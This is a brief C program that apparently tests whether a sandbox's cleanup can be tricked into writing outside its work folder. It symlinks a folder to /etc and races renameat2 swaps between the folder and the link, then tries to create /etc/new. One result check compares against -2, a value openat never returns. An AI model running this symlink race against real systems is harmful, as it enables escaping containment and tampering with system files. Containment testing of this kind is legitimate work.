// Swaps folder and link as fast as it can while it ends: who cleans up must not follow either.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    mkdir("/work/a", 0777);
    symlink("/etc", "/work/b");
    mkfifo("/work/a/fifo", 0666);
    if (fork() == 0) {
        close(1);
        for (;;) syscall(SYS_renameat2, AT_FDCWD, "/work/a", AT_FDCWD, "/work/b", 2 /* RENAME_EXCHANGE */);
    }
    link("/usr/lib/assay/supervisor", "/work/supervisor");
    int held = open("/work/a", O_RDONLY | O_DIRECTORY);
    usleep(20000);
    rmdir("/work/a");
    int again = openat(held, "new", O_WRONLY | O_CREAT, 0600);
    int outside = open("/etc/new", O_WRONLY | O_CREAT, 0600);
    puts(outside < 0 || again == -2 ? "contained" : "wrote outside");
}
